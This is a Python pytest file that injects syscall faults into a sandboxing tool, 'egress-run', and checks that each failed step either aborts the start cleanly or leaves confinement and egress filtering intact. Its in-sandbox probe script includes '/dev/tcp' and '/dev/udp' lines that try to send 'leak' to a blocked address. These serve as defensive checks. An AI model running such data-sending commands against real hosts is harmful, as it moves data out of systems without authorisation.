# SPDX-License-Identifier: GPL-2.0-or-later
"""Every step of the start that fails stops it, or did not matter.

A preloaded library (clients/fault.c) makes one call of one of egress-run's
processes fail. A first run without faults tells which calls there are up to
the command's start; then there is a run for each. A run that meets a fault
either ends with status 125, one line on stderr, and the command has not begun;
or the command finds its confinement whole and the network as ever. The run
never hangs or crashes, and leaves nothing.
"""
import collections
import concurrent.futures
import difflib
import errno
import os
import pathlib
import re
import tempfile

import pytest

import lab
from launch_helpers import client

TRACE_SIZE = 1 << 20
ROLES = {"m": "monitor", "m1": "gateway", "m11": "init", "m111": "command",
         "m2": "dns", "m3": "relay"}
# After init has begun the command's process, it has this to do still.
INIT_LATE = {"open", "dup2", "prctl", "syscall"}
KILLED = 0
DEADLINE = 10

Call = collections.namedtuple("Call", "path number function late hit")
Outcome = collections.namedtuple("Outcome", "call rc state out err")

# What the command finds; it writes that into the file $1.
LOOK = r"""exec >"$1" 2>&1
grep -E '^(Uid|Gid|Groups|Sig...|Cap...|NoNewPrivs|Seccomp):' /proc/self/status
cat /etc/resolv.conf /etc/nsswitch.conf /etc/hosts
ls /proc/$$/fd
cut -d: -f1 -s /proc/net/dev
cut -d' ' -f4-6 /proc/self/mountinfo
stat -c '%u %n' /proc/1/mem
echo leak >/dev/tcp/203.0.113.10/80
echo leak >/dev/udp/203.0.113.10/9999; echo leak >/dev/udp/203.0.113.10/9999
exec 3<>/dev/tcp/allowed.test/80
printf 'GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n' >&3
tail -n 1 <&3
"""


def read_trace(path):
    text = path.read_bytes()[8:].rstrip(b"\0").decode()
    return [Call(words[0], int(words[1]), words[2], "late" in words,
                 "hit" in words)
            for words in (line.split() for line in text.splitlines())]


def without_libc_signals(state):
    """Signals 32 and 33 are glibc's own: posix_spawn(), as make uses it,
    leaves them ignored, and the first thread of this process changes that
    again for what it starts."""
    return re.sub(r"(?m)^SigIgn:\t([0-9a-f]+)$",
                  lambda m: f"SigIgn:\t{int(m[1], 16) & ~(3 << 31):016x}",
                  without_sys(state))


def without_sys(state):
    """Where no fresh /sys may be had, it is the host's, with its mounts."""
    return "".join(line for line in state.splitlines(True)
                   if " /sys" not in line)


def run(user, fault=None, error=0):
    """Run LOOK with that fault; gives (outcome, calls)."""
    with tempfile.TemporaryDirectory(dir=lab.LAB / "tmp") as name:
        path = pathlib.Path(name)
        os.chmod(path, 0o777)
        trace = path / "trace"
        trace.touch()
        trace.chmod(0o666)
        os.truncate(trace, TRACE_SIZE)
        env = {"LD_PRELOAD": str(client("fault", "-shared", "-fPIC")),
               "FAULT_FILE": str(trace),
               "ASAN_OPTIONS": "verify_asan_link_order=0:" +
               os.environ.get("ASAN_OPTIONS", "")}
        if fault:
            env.update(FAULT_PATH=fault.path, FAULT_NUMBER=str(fault.number),
                       FAULT_ERROR=str(error))
        # A network of its own is a step that finds an absent gate by itself.
        args = [*(["--allow-address", "192.0.2.0/24"] if user == "root"
                  else []), "--allow-domain", "allowed.test", "-q", "--log",
                path / "log", "bash", "-c", LOOK, "bash", path / "state"]
        try:
            got = lab.egress(args, user=user, env=env, timeout=DEADLINE)
            found = [got.rc, None, got.out, got.err]
        except AssertionError:
            found = ["hangs", None, "", ""]
        if (path / "state").exists():
            found[1] = without_libc_signals((path / "state").read_text())
        return Outcome(fault, *found), read_trace(trace)


def calls_of_a_start(user):
    """What the command finds, and the calls that come before it, with what
    init does beside it."""
    outcome, calls = run(user)
    assert (outcome.rc, outcome.out, outcome.err) == (0, "", ""), outcome
    assert "NoNewPrivs:\t1" in outcome.state
    assert "203.0.113.10/80: Connection refused" in outcome.state
    assert "OK allowed.test" in outcome.state
    seen = {call.path for call in calls}
    assert seen >= set(ROLES), seen
    # The monitor's last message before the command exists lets it begin.
    go = max(call.number for call in calls if call.path == "m"
             and call.function == "sendmsg" and not call.late)
    return outcome.state, [
        call for call in calls if call.path == "m111"
        or (call.path == "m11" and call.function in INIT_LATE)
        or not call.late and (call.path != "m" or call.number <= go)]


def is_right(outcome, error, whole):
    """Stopped with a word why, or confined as ever."""
    lines = outcome.err.splitlines()
    if outcome.out:
        return False
    if error == KILLED and outcome.call.path == "m":
        return outcome.rc == -9 and outcome.state is None
    if error == KILLED and outcome.call.path == "m111":
        return outcome.rc == 128 + 9 and outcome.state is None and not lines
    if outcome.rc == 0:
        return outcome.state == whole and "error" not in outcome.err
    # A helper may die more than once before its start is given up.
    errors = [x for x in lines if not x.startswith("egress-run: warning: ")]
    return (outcome.rc == 125 and outcome.state is None and len(errors) == 1
            and re.match("egress-run: error: .", errors[0]))


def described(outcome, whole):
    """With what the command found otherwise than without a fault."""
    changes = [] if outcome.state is None else [
        line for line in difflib.ndiff(whole.splitlines(),
                                       outcome.state.splitlines())
        if line[0] in "+-"]
    return f"{outcome._replace(state=None)}, " + (
        "not begun" if outcome.state is None else f"found {changes}")


def thin(calls):
    """Of one call after the other in a loop, the first and the last."""
    return [call for i, call in enumerate(calls)
            if not 0 < i < len(calls) - 1
            or not calls[i - 1].function == call.function
            == calls[i + 1].function == "prctl"]


CASES = [("root", errno.EIO), ("tester", errno.EPERM), ("root", KILLED)]


@pytest.fixture(scope="module", params=CASES, ids=lambda x: "-".join(
    [x[0], errno.errorcode.get(x[1], "killed")]))
def outcomes(request, egress):
    """Of a run for each call, in that order; nothing is left by any."""
    user, error = request.param
    before = lab.residue()
    whole, calls = calls_of_a_start(user)
    if error != errno.EIO:
        calls = thin(calls)
    with concurrent.futures.ThreadPoolExecutor(2 * os.cpu_count()) as pool:
        done = list(pool.map(lambda call: run(user, call, error), calls))
    lab.wait_clean(before)
    return error, whole, [outcome for outcome, _ in done], [
        any(call.hit for call in trace) for _, trace in done]


def test_faults_are_met(outcomes):
    """Otherwise this file proved nothing. Another order of events may let a
    run do without a call."""
    _, _, all_outcomes, hits = outcomes
    assert len(hits) > 250
    missed = [x.call for x, hit in zip(all_outcomes, hits) if not hit]
    assert len(missed) < len(hits) / 20, missed
    stopped = [x for x in all_outcomes if x.rc != 0]
    assert len(stopped) > len(hits) / 2


@pytest.mark.parametrize("path", ROLES, ids=ROLES.get)
def test_every_fault_is_taken_well(outcomes, path):
    error, whole, all_outcomes, _ = outcomes
    wrong = [x for x in all_outcomes
             if x.call.path == path and not is_right(x, error, whole)]
    assert not wrong, "\n".join(described(x, whole) for x in wrong)
